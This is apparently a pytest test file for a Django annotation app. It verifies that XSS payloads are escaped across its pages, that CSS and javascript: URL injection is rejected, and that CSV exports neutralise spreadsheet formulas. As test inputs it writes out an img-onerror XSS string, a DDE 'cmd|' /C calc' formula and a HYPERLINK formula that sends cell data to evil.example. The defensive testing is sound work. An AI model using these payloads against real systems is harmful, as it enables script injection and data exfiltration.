"""XSS: payloads in notes, labels, source and entity names and article text are escaped
wherever they are shown, label colours cannot break out of labels.css, and CSV cells
cannot become spreadsheet formulas."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse

from annotations.models import Label
from articles.models import Source
from newsdesk.tests.html_checks import inline_code
from newsdesk.tests.xss_payloads import (
    CSS_BREAKOUT,
    SCRIPT,
    UNESCAPED,
    Hostile,
    hostile_world,
)

ESCAPED_SCRIPT = "&lt;script&gt;window.__xss=1&lt;/script&gt;"


@pytest.fixture
def hostile(tmp_path, editor: User, admin_user: User, client: Client) -> Hostile:
    client.force_login(admin_user)
    return hostile_world(tmp_path, editor)


def pages(hostile: Hostile) -> dict[str, str]:
    """Every page showing the hostile objects, by what it shows."""
    article, annotation = hostile.article, hostile.annotation
    return {
        "article list": reverse("articles:list"),
        "article search": reverse("articles:list") + "?q=Bericht",
        "workspace": article.get_absolute_url(),
        "annotation card": reverse("annotations:card", args=[annotation.pk]),
        "annotation edit form": reverse("annotations:edit", args=[annotation.pk]),
        "source suggestions (name)": reverse("annotations:source-suggestions") + "?sources=img",
        "source suggestions (alias)": reverse("annotations:source-suggestions") + "?sources=script",
        "review list": reverse("review:list"),
        "review of the article": reverse("review:article", args=[article.pk]),
        "entity list": reverse("entities:list"),
        "entity search": reverse("entities:list") + "?q=script",
        "entity page": reverse("entities:detail", args=[hostile.entity.pk]),
        "candidate queue": reverse("entities:candidates"),
        "admin sources": reverse("admin:articles_source_changelist"),
        "admin source": reverse("admin:articles_source_change", args=[hostile.source.pk]),
        "admin annotations": reverse("admin:annotations_annotation_changelist"),
        "admin labels": reverse("admin:annotations_label_changelist"),
    }


@pytest.mark.parametrize(
    "page",
    [
        "article list",
        "article search",
        "workspace",
        "annotation card",
        "annotation edit form",
        "source suggestions (name)",
        "source suggestions (alias)",
        "review list",
        "review of the article",
        "entity list",
        "entity search",
        "entity page",
        "candidate queue",
        "admin sources",
        "admin source",
        "admin annotations",
        "admin labels",
    ],
)
def test_payloads_are_escaped(client: Client, hostile: Hostile, page: str) -> None:
    for headers in ({}, {"HX-Request": "true"}):
        response = client.get(pages(hostile)[page], headers=headers)
        assert response.status_code == 200, page
        html = response.content.decode()
        for raw in UNESCAPED:
            assert raw not in html, f"{page}: unescaped {raw!r}"
        assert inline_code(html) == [], page
        assert "__xss" in html, f"{page} does not show the payload at all"


def test_the_workspace_shows_text_note_label_and_source_escaped(
    client: Client, hostile: Hostile
) -> None:
    html = client.get(hostile.article.get_absolute_url()).content.decode()
    assert ESCAPED_SCRIPT in html  # the article text and the highlighted quote
    assert "&lt;/textarea&gt;&lt;script&gt;" in html  # the note
    assert "&quot;&gt;&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;" in html  # label


def test_the_edit_form_keeps_the_note_inside_its_textarea(client: Client, hostile: Hostile) -> None:
    html = client.get(reverse("annotations:edit", args=[hostile.annotation.pk])).content.decode()
    assert html.count("</textarea>") == html.count("<textarea")
    assert "&lt;/textarea&gt;&lt;script&gt;window.__xss=1&lt;/script&gt;" in html


def test_label_colours_cannot_break_out_of_the_stylesheet(client: Client, hostile: Hostile) -> None:
    css = client.get(reverse("annotations:label-styles")).content.decode()
    assert f"--label-colour: {hostile.label.colour};" in css
    assert CSS_BREAKOUT not in css
    assert css.count("{") == css.count("}") == Label.objects.count() - 1
    with pytest.raises(ValidationError) as refused:
        Label(name="Rot2", name_en="Red2", key="9", colour=CSS_BREAKOUT).full_clean()
    assert "colour" in refused.value.message_dict


def test_admin_refuses_a_javascript_homepage_for_a_source(db: None) -> None:
    with pytest.raises(ValidationError) as refused:
        Source(name="Kreml", homepage="javascript:window.__xss=1").full_clean()
    assert "homepage" in refused.value.message_dict


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_spreadsheet_formulas(
    client: Client, hostile: Hostile, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"klick")'
    annotation = hostile.annotation
    annotation.note = formula
    annotation.save()
    Source.objects.filter(pk=hostile.source.pk).update(name=f"{start}cmd|' /C calc'!A0")
    Label.objects.filter(pk=hostile.label.pk).update(name=f"{start}1+1")
    response = client.get(reverse("review:export", args=["csv"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["annotation_id"] == str(annotation.pk))
    assert row["note"] == "'" + formula
    assert row["sources"] == f"'{start}cmd|' /C calc'!A0"
    assert row["label"] == f"'{start}1+1"
    assert row["exact"] == SCRIPT  # text that is no formula stays as it was
    for cells in rows:
        for value in cells.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_json_exports_are_not_rendered_as_html(client: Client, hostile: Hostile) -> None:
    for name in ("w3c", "doccano", "labelstudio"):
        response = client.get(reverse("review:export", args=[name]))
        assert response.status_code == 200
        assert "html" not in response["Content-Type"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"].startswith("attachment;")
